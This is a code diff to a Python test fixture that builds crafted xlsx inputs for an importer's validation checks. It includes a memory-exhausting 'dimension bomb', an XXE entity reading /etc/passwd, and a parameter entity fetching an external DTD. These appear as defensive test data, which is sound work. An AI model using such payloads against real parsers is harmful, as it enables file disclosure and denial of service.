@@ -253,11 +253,15 @@ def crafted() -> dict[str, tuple[bytes, str]]:
     data = exported()
     dimension = re.search(rb'<dimension ref="[^"]+"/>', part(data, ASSUMPTIONS_PART)).group()
     without_dimension = part(data, ASSUMPTIONS_PART).replace(dimension, b"")
+    last_row = re.findall(rb'<row r="\d+"', without_dimension)[-1]
+    whole_sheet = part(data, ASSUMPTIONS_PART).replace(dimension, b'<dimension ref="A1:XFD1048576"/>')
     external = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>'
     parameter = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % p SYSTEM "http://example.com/x.dtd"> %p;]><workbook/>'
     return {
+        # Its last row moved a million down: openpyxl pads every row between to the declared
+        # width (2.3 GB and 13 s before MemoryError, without these checks).
         "dimension bomb": (
-            with_sheet_edit(data, dimension, b'<dimension ref="A1:XFD1048576"/>'),
+            rebuild(data, {ASSUMPTIONS_PART: whole_sheet.replace(last_row, b'<row r="1048576"')}),
             rf"{ASSUMPTIONS_PART}: declares the dimension 'A1:XFD1048576': .*at most 20,000 rows and 256 columns",
         ),
         "cell in the last column": (
